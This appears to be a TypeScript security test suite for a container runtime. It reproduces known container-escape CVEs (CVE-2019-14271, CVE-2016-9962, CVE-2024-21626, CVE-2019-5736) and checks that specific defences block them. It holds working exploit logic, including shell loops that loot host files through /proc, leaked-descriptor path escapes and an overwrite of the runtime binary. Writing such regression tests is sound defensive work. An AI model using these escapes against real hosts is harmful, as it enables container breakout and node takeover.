import { existsSync } from 'node:fs';
import { copyFile, mkdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { text } from 'node:stream/consumers';
import { eventually } from '../../conformance.ts';
import { capabilityMask, DEFAULT_CAPABILITIES } from '../capabilities.ts';
import { defaultSeccomp } from '../seccomp/index.ts';
import { TestNode } from '../test-root.ts';
import { attacks, bind, content, imageOf, outcome, paused, type Target } from './attack.ts';
import { buildAttacker } from './tools.ts';

/** Attacks on the runtime's own processes, programs and descriptors. */

/** What a debugger's container has. */
const TRACER = {
  capabilities: [...DEFAULT_CAPABILITIES, 'CAP_SYS_PTRACE'],
  seccomp: defaultSeccomp([...DEFAULT_CAPABILITIES, 'CAP_SYS_PTRACE']),
};

/** Looks, round after round, whether some process of the namespace has a root with the node's secret in it. */
const LOOK_FOR = (secret: string) => `
  while :; do
    for p in /proc/[0-9]*; do cat $p/root${secret} >> /volume/loot 2>/dev/null; done
    echo >> /volume/rounds
  done`;

/** A container with CAP_SYS_PTRACE looks while `joining` stands at the beginning of its way into the pid namespace. */
async function lookWhile(target: Target, joining: () => Promise<unknown>): Promise<string> {
  const { node, runtime, pod } = target;
  const [volume, secret] = [join(node.base, 'volume'), join(node.base, 'secret')];
  await mkdir(volume);
  await writeFile(secret, 'the node’s secret');
  const change = { ...TRACER, mounts: [bind(volume, '/volume')] };
  await runtime.startContainer(pod, await node.spec('tracer.0', LOOK_FOR(secret), change));
  await paused(target, joining, async () => {
    const before = (await content(volume, 'rounds')).length;
    await eventually('it has looked', async () => (await content(volume, 'rounds')).length > before + 3);
  });
  return (await content(volume, 'loot')).slice(0, 40);
}

attacks('processes', [
  {
    name: 'CVE-2019-14271: files copied out by a program that the image has in the place of tar, run as the node',
    defence: 'own-capabilities',
    async attempt({ node, runtime, pod }) {
      const root = await node.root();
      const said = '#!/bin/sh\ngrep CapEff /proc/self/status';
      await writeFile(join(imageOf(root), 'tar'), said, { mode: 0o755 });
      await runtime.startContainer(pod, await node.spec('victim.0', 'sleep 600', { root, capabilities: [] }));
      // As `kubectl cp` has it.
      const args = ['/tar', 'cf', '-', '/etc'];
      const { stdout } = await runtime.exec(pod, 'victim.0', { args, tty: false, stdin: false });
      const mask = BigInt(`0x${/[0-9a-f]{16}/.exec(await text(stdout))![0]}`);
      return `may ${mask & capabilityMask(['CAP_SYS_ADMIN']) ? 'administer the node' : 'nothing'}`;
    },
    stopped: 'may nothing',
    succeeded: 'may administer the node',
  },
  {
    name: 'CVE-2016-9962: an exec on its way in, whose root is the node’s, looked at by who may trace',
    defence: 'pids-last',
    pause: 'spawned',
    async attempt(target) {
      return await lookWhile(target, async () => {
        const spec = { args: ['true'], tty: false, stdin: false };
        const exec = await target.runtime.exec(target.pod, 'tracer.0', spec);
        return await exec.exit;
      });
    },
    stopped: /^$/,
    succeeded: /the node’s secret/,
  },
  {
    name: 'CVE-2016-9962: the same of a container that joins a pid namespace shared by the pod',
    defence: 'pids-last',
    pause: 'spawned',
    async attempt(given) {
      const pod = await given.node.sandbox(given.runtime, 'shared', { sharedPid: true });
      const target = { ...given, pod };
      return await lookWhile(target, () => outcome(target, 'true', {}));
    },
    stopped: /^$/,
    succeeded: /the node’s secret/,
  },
  {
    name: 'CVE-2024-21626: a working directory by the name of a descriptor that the runtime has left open',
    defence: 'magic-links',
    without: ['inherited-descriptors', 'in-root'],
    before: 'mkdir -p $base/outside; echo outside > $base/outside/file; exec 9<$base/outside',
    async attempt(target) {
      return await outcome(target, 'cat file', { cwd: '/proc/self/fd/9' });
    },
    stopped: 'refused: working directory',
    succeeded: 'outside',
  },
  {
    name: 'CVE-2024-21626: a descriptor left open by whoever started the node’s agent',
    defence: 'inherited-descriptors',
    without: ['closed-descriptors'],
    before: 'mkdir -p $base/outside; echo outside > $base/outside/file; exec 9<$base/outside',
    async attempt(target) {
      return await outcome(target, 'cat /proc/self/fd/9/file', {});
    },
    stopped: /No such file/,
    succeeded: 'outside',
  },
  {
    name: 'CVE-2024-21626: a descriptor left open by the runtime',
    defence: 'closed-descriptors',
    without: ['inherited-descriptors'],
    before: 'mkdir -p $base/outside; echo outside > $base/outside/file; exec 9<$base/outside',
    async attempt(target) {
      return await outcome(target, 'cat /proc/self/fd/9/file', {});
    },
    stopped: /No such file/,
    succeeded: 'outside',
  },
  {
    name: 'CVE-2019-5736: the runtime’s program overwritten by way of the process that becomes an exec’s',
    defence: 'sealed-program',
    pause: 'entered',
    attempt: overwriteProgram,
    stopped: /^write: Operation not permitted; \W*ELF/,
    succeeded: /^overwritten; owned/,
  },
]);

/** Hands the program of the first process that is the runtime's to whoever asks at /volume/socket. */
const OFFER = `
  while :; do
    for p in /proc/[0-9]*; do
      case $(/bin/busybox readlink $p/exe) in *monitor*) exec /volume/attacker offer /volume/socket $p/exe;; esac
    done
  done`;

/**
 * Nobody can write to a program that runs, so the descriptor goes to an accomplice: a container of another instance on the machine,
 * which waits until the first one is down.
 */
async function overwriteProgram(target: Target): Promise<string> {
  const { node, runtime, pod } = target;
  const volume = join(node.base, 'volume');
  await mkdir(volume);
  buildAttacker(volume);
  const mounts = [bind(volume, '/volume')];
  // The race point is inside of the container.
  const pause = bind(join(node.base, 'pause'), join(node.base, 'pause'));
  const other = await TestNode.make();
  const accomplice = await other.open();
  try {
    const where = await other.sandbox(accomplice, 'accomplice');
    await runtime.startContainer(
      pod,
      await node.spec('main.0', OFFER, { ...TRACER, mounts: [...mounts, pause] }),
    );
    const overwrite = '/volume/attacker overwrite /volume/socket owned > /volume/said';
    await paused(
      target,
      async () => {
        const exec = await runtime.exec(pod, 'main.0', { args: ['true'], tty: false, stdin: false });
        await exec.exit;
      },
      async () => {
        await eventually('it is offered', () => existsSync(join(volume, 'socket')));
        await accomplice.startContainer(where, await other.spec('main.0', overwrite, { mounts }));
        await eventually('it is taken', async () => /taken/.test(await content(volume, 'said')));
      },
    );
    await runtime.destroy();
    await eventually('it has tried', async () => /writ/.test(await content(volume, 'said')));
    const program = (await content(node.binDirectory, 'monitor')).slice(0, 5);
    await copyFile(join(other.binDirectory, 'monitor'), join(node.binDirectory, 'monitor'));
    return `${(await content(volume, 'said')).replace('taken\n', '').trim()}; ${program}`;
  } finally {
    await accomplice.close();
    await other.close();
  }
}
